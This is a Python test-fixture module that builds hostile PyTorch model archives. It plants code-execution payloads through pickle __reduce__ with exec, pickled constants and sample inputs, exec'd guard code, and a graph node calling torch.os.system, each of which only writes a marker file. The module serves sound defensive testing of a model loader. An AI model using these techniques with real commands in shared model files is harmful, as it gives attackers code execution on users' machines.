"""Hostile model archives for the attack tests: each one writes a marker file if anything runs it.

They are built from real ``torch.export`` / TorchScript archives by editing the zip, exactly as an
editor with an upload key could.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any


class MarkerPayload:
    """Unpickling this writes ``marker`` (the code runs inside ``pickle.loads``)."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({self.marker!r}, 'w').write('pwned')",))


def marker_pickle(marker: Path) -> bytes:
    return pickle.dumps(MarkerPayload(marker), protocol=2)


def export_archive(path: Path, n_features: int = 4, n_outputs: int = 3, batch: int = 8) -> Path:
    """A legitimate torch.export archive of a small MLP (static batch of ``batch`` rows)."""
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(
        torch.nn.Linear(n_features, 8), torch.nn.ReLU(), torch.nn.Linear(8, n_outputs)
    ).eval()
    torch.export.save(torch.export.export(model, (torch.randn(batch, n_features),)), str(path))
    return path


def rewrite_zip(source: Path, target: Path, edit: Callable[[dict[str, bytes], str], None]) -> Path:
    """Copy the archive ``source`` to ``target`` after ``edit(members, root)`` changed its members."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    root = next(iter(members)).split("/", 1)[0]
    edit(members, root)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    target.write_bytes(buffer.getvalue())
    return target


def pickled_constant_pt2(source: Path, target: Path, marker: Path) -> Path:
    """The issue's attack: an ``opaque_obj_0`` constant marked ``use_pickle`` (torch.export.load ``pickle.loads`` it)."""

    def edit(members: dict[str, bytes], root: str) -> None:
        config_name = f"{root}/data/constants/model_constants_config.json"
        config = json.loads(members[config_name])
        config["config"]["payload"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        members[config_name] = json.dumps(config).encode()
        members[f"{root}/data/constants/opaque_obj_0"] = marker_pickle(marker)

    return rewrite_zip(source, target, edit)


def pickled_sample_inputs_pt2(source: Path, target: Path, marker: Path) -> Path:
    """Sample inputs that fail ``weights_only`` loading, so ``torch.export.load`` falls back to a full unpickle."""

    def edit(members: dict[str, bytes], root: str) -> None:
        members[f"{root}/data/sample_inputs/model.pt"] = marker_pickle(marker)

    return rewrite_zip(source, target, edit)


def program_edit_pt2(source: Path, target: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """An archive whose ``models/model.json`` was changed by ``change`` (guards, targets, names)."""

    def edit(members: dict[str, bytes], root: str) -> None:
        name = f"{root}/models/model.json"
        program = json.loads(members[name])
        change(program)
        members[name] = json.dumps(program).encode()

    return rewrite_zip(source, target, edit)


def guard_code_pt2(source: Path, target: Path, marker: Path) -> Path:
    """Guard code is ``exec``'d by PyTorch when the program becomes a module."""

    def change(program: dict[str, Any]) -> None:
        program["guards_code"] = [f"(open({str(marker)!r}, 'w').write('pwned') or True)"]

    return program_edit_pt2(source, target, change)


def os_call_pt2(source: Path, target: Path, marker: Path) -> Path:
    """A graph node calling ``torch.os.system`` (PyTorch resolves any ``torch.*`` attribute as a target)."""

    def change(program: dict[str, Any]) -> None:
        nodes = program["graph_module"]["graph"]["nodes"]
        nodes.insert(
            0,
            {
                "target": "torch.os.system",
                "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
                "outputs": [{"as_int": 0}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
                "name": "evil",
            },
        )

    return program_edit_pt2(source, target, change)


def legacy_pickle(target: Path, marker: Path) -> Path:
    """A plain pickle with a ``.pt`` suffix (what ``torch.save(model)`` of old looked like)."""
    target.write_bytes(marker_pickle(marker))
    return target
